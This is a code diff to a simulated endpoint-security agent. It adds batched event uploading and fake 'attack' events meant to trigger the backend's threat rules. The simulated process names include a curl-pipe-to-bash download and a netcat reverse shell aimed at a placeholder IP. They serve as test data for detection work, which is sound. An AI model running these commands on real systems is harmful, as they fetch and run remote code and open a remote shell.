@@ -4,6 +4,7 @@ import platform
 import time
 import uuid
 import random
+from uploader import BatchUploader
 
 BACKEND_URL = "http://localhost:8899"
 ORG_ID = "default_org"  # ADD THIS - Multi-tenant org
@@ -13,16 +14,33 @@ HOSTNAME = socket.gethostname()
 
 EVENT_TYPES = ["process_start", "file_write", "network_connection"]
 
-def register():
-    info = {
-        "agent_id": AGENT_ID,
-        "hostname": HOSTNAME,
-        "ip": requests.get("https://api.ipify.org").text,
+BATCH_SIZE = 200
+BATCH_MAX_AGE = 5.0  # seconds before a partial batch is flushed
+SPOOL_PATH = "agent_client_spool.ndjson"
+UPLOADER = BatchUploader(BACKEND_URL, SPOOL_PATH, batch_size=BATCH_SIZE, flush_interval=BATCH_MAX_AGE)
+
+# Process names used for simulated attack bursts; they trip the backend's threat rules
+ATTACK_PROCESSES = ["bash -i", "curl http://203.0.113.7/x.sh | bash", "nc -e /bin/sh 203.0.113.7 4444"]
+
+def local_ip():
+    # Resolved locally so the simulator never needs outside network access
+    try:
+        return socket.gethostbyname(HOSTNAME)
+    except OSError:
+        return "127.0.0.1"
+
+def registration_info(agent_id=AGENT_ID, org_id=ORG_ID, hostname=HOSTNAME):
+    return {
+        "agent_id": agent_id,
+        "hostname": hostname,
+        "ip": local_ip(),
         "os": platform.system(),
         "version": "1.0",
-        "org_id": ORG_ID  # ADD THIS
+        "org_id": org_id
     }
-    res = requests.post(f"{BACKEND_URL}/agent/register", json=info)
+
+def register():
+    res = requests.post(f"{BACKEND_URL}/agent/register", json=registration_info())
     print(res.json())
 
 def heartbeat():
@@ -32,29 +50,33 @@ def heartbeat():
     })
     print(f"Heartbeat: {res.status_code}")
 
-def generate_event():
+def generate_event(agent_id=AGENT_ID, org_id=ORG_ID, attack=False):
+    if attack:
+        event_type = random.choice(["process_start", "network_connection"])
+        process = random.choice(ATTACK_PROCESSES)
+    else:
+        event_type = random.choice(EVENT_TYPES)
+        process = random.choice(["python", "curl", "bash", "vim"])
     evt = {
-        "agent_id": AGENT_ID,
-        "event_type": random.choice(EVENT_TYPES),
+        "agent_id": agent_id,
+        "event_type": event_type,
         "timestamp": int(time.time()),
         "details": {
-            "process": random.choice(["python", "curl", "bash", "vim"]),
+            "process": process,
             "file": random.choice(["/tmp/config", "/home/ops/secret.txt", ""]),
             "ip": random.choice(["1.2.3.4", "8.8.8.8", "192.168.1.5"])
         },
-        "org_id": ORG_ID  # ADD THIS
+        "org_id": org_id
     }
     return evt
 
 def send_event(event):
-    try:
-        res = requests.post(f"{BACKEND_URL}/agent/event", json=event)
-        print("Event sent:", res.status_code)
-    except Exception as e:
-        print("Event send failed:", e)
+    """Queue an event; the uploader batches, compresses and spools it"""
+    UPLOADER.submit("/agent/events/batch", event)
 
 if __name__ == "__main__":
     register()
+    UPLOADER.start()
     while True:
         heartbeat()
         if random.random() < 0.5: